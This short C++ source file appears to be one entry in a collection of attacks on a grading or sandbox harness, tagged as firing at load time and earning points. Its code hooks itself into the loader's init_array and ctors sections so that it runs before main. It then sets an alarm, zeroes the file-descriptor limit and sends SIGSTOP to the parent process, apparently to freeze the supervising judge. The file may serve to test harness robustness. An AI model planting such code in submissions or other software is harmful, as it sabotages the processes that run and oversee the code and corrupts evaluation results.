// attack: {"at": "load", "earns": [20, 20]}
// Runs from the loader's own tables, before other constructors, and sets alarms, handlers and limits: no matter.
#ifndef WITHOUT_ATTACK
#include <csignal>
#include <sys/resource.h>
#include <unistd.h>
extern "C" void early()
{
    alarm(1);
    rlimit const none{0, 0};
    setrlimit(RLIMIT_NOFILE, &none);
    kill(getppid(), SIGSTOP);
}
asm(".section .init_array.00001,\"aw\"\n.quad early\n.section .ctors,\"aw\"\n.quad early\n.text");
#endif
